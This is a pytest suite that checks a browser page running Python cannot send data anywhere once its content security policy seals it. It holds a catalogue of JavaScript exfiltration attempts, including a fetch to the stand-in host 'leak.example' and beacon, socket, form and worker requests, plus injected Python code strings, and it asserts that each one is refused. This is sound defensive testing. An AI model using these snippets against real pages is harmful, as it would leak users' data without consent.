"""Nothing leaves the tab: the page asks only its own server, and once sealed not even that."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

# Each tries to send something from the page; "out" means that it may have worked.
FROM_THE_PAGE = {
    "fetch": "fetch('./leak?fetch').then(() => 'out')",
    "fetch elsewhere": "fetch('https://leak.example/').then(() => 'out')",
    "no-cors post": "fetch('./leak?post', {method: 'POST', mode: 'no-cors', body: 'x'}).then(() => 'out')",
    "xhr": "new Promise((ok, no) => { const asked = new XMLHttpRequest(); asked.onload = () => ok('out'); asked.onerror = no; asked.open('GET', './leak?xhr'); asked.send(); })",
    "image": "new Promise((ok, no) => { const image = new Image(); image.onload = () => ok('out'); image.onerror = no; image.src = './leak?image'; })",
    "beacon": "Promise.resolve(navigator.sendBeacon('./leak?beacon', 'x') ? 'queued' : 'no')",
    "socket": "new Promise((ok, no) => { const socket = new WebSocket('ws://' + location.host + '/leak?socket'); socket.onopen = () => ok('out'); socket.onerror = no; })",
    "events": "new Promise((ok, no) => { const events = new EventSource('./leak?events'); events.onopen = () => ok('out'); events.onerror = no; })",
    "module": "import('./leak?module').then(() => 'out')",
    "script": "new Promise((ok, no) => { const script = document.createElement('script'); script.onload = () => ok('out'); script.onerror = no; script.src = './leak?script'; document.head.append(script); })",
    "style": "new Promise((ok, no) => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.onload = () => ok('out'); link.onerror = no; link.href = './leak?style'; document.head.append(link); })",
    "frame": "new Promise((ok) => { const frame = document.createElement('iframe'); frame.src = './leak?frame'; frame.onload = () => ok('loaded'); document.body.append(frame); setTimeout(() => ok('no'), 700); })",
    "form": "new Promise((ok) => { const form = document.createElement('form'); form.action = './leak?form'; form.method = 'post'; document.body.append(form); form.submit(); setTimeout(() => ok('no'), 400); })",
    "worker by address": "new Promise((ok, no) => { const worker = new Worker('./leak?worker'); worker.onerror = no; worker.onmessage = () => ok('out'); })",
    "prefetch": "new Promise((ok, no) => { const link = document.createElement('link'); link.rel = 'prefetch'; link.onload = () => ok('out'); link.onerror = no; link.href = './leak?prefetch'; document.head.append(link); setTimeout(() => no(new Error('quiet')), 700); })",
}
FROM_A_WORKER = """
(code) => new Promise((ok) => {
  const address = URL.createObjectURL(new Blob([`(async () => { try { postMessage(await (${code})); } catch (error) { postMessage('refused ' + error); } })()`], {type: 'text/javascript'}));
  const worker = new Worker(address, {type: 'module'});
  worker.onmessage = (event) => ok(event.data);
  worker.onerror = () => ok('refused');
})
"""


def attempt(seen: Any, code: str) -> str:
    return str(seen.page.evaluate(f"() => ({code}).then((what) => what, (error) => 'refused ' + error)"))


def leaked(seen: Any) -> list[str]:
    return [path for path in seen.server.asked if "leak" in path]


@pytest.fixture
def sealed(checker: Callable[..., Any]) -> Any:
    seen = checker()
    seen.server.asked.clear()
    return seen


@pytest.fixture
def untouched(visit: Callable[..., Any]) -> Any:
    """A sealed page in which nothing was tried before: a form that the policy stopped leaves Playwright waiting."""
    seen = visit().ready()
    seen.server.asked.clear()
    return seen


@pytest.mark.parametrize("way", FROM_THE_PAGE)
def test_nothing_gets_out_of_the_sealed_page(sealed: Any, way: str) -> None:
    told = attempt(sealed, FROM_THE_PAGE[way])
    sealed.page.wait_for_timeout(150)
    # Chromium reports requests that its policy stopped; what counts is what arrived anywhere.
    sealed.foreign.clear()
    assert told != "out"
    assert leaked(sealed) == []


def test_the_attempts_do_get_out_of_a_page_that_is_not_sealed(visit: Callable[..., Any]) -> None:
    seen = visit("index.html", bypass_csp=True, fresh=True)
    seen.server.asked.clear()
    for way in ("fetch", "xhr", "image", "beacon", "script", "style", "frame", "module"):
        attempt(seen, FROM_THE_PAGE[way])
    seen.page.wait_for_timeout(300)
    assert {path.split("?")[1] for path in leaked(seen)} >= {"fetch", "xhr", "image", "beacon", "script", "style", "frame", "module"}


@pytest.mark.parametrize("way", ["fetch", "xhr", "import"])
def test_nothing_gets_out_of_a_worker_of_the_sealed_page(sealed: Any, way: str) -> None:
    base = sealed.server.address
    code = {
        "fetch": f"fetch('{base}leak?from-worker').then(() => 'out')",
        "xhr": f"new Promise((ok, no) => {{ const asked = new XMLHttpRequest(); asked.onload = () => ok('out'); asked.onerror = no; asked.open('GET', '{base}leak?x'); asked.send(); }})",
        "import": f"import('{base}leak?import').then(() => 'out')",
    }[way]
    assert str(sealed.page.evaluate(FROM_A_WORKER, code)).startswith("refused")
    assert leaked(sealed) == []


def test_python_in_the_page_cannot_reach_the_server_either(untouched: Any) -> None:
    """The engine's own worker: its `fetch` is the stub that handed Pyodide its parts, and its policy is the page's."""
    workers = untouched.page.workers
    assert len(workers) == 1
    told = workers[0].evaluate(
        "(address) => new Promise((ok, no) => { const asked = new XMLHttpRequest(); asked.onload = () => ok('out'); asked.onerror = () => ok('refused'); asked.open('GET', address); asked.send(); })",
        f"{untouched.server.address}leak?python",
    )
    assert told == "refused"
    assert leaked(untouched) == []


def test_the_seal_cannot_be_taken_off(untouched: Any) -> None:
    untouched.page.evaluate("document.querySelectorAll('meta[http-equiv]').forEach((policy) => policy.remove())")
    assert attempt(untouched, FROM_THE_PAGE["fetch"]).startswith("refused")


def test_using_the_page_asks_the_server_for_nothing_and_breaks_no_policy(untouched: Any) -> None:
    untouched.after(lambda: untouched.page.click('[data-example="deposit"]'))
    untouched.write("AI: My name is Ann Miller. Two at 7 pm on the 25th?\nThem: You're all set, Ann.")
    untouched.page.click("#share")
    untouched.page.keyboard.press("Escape")
    untouched.page.click("#report-phrase")
    untouched.page.keyboard.press("Escape")
    untouched.page.wait_for_timeout(300)
    # The service worker may still be keeping files of the site, which holds nothing of the call.
    assert [path for path in untouched.server.asked if "?" in path or "#" in path] == []
    assert untouched.violations() == []


def test_the_page_shows_how_to_see_the_seal(untouched: Any) -> None:
    untouched.page.click("#sealed")
    untouched.page.click("#leak")
    untouched.until("document.getElementById('leaked').textContent.length > 10")
    assert "Refused" in untouched.text("#leaked")
    assert leaked(untouched) == []


def test_a_text_that_is_code_is_only_text(untouched: Any) -> None:
    untouched.write('AI: """ + __import__("js").fetch("./leak") + """\nThem: \'); import js; js.fetch("./leak")')
    assert leaked(untouched) == []
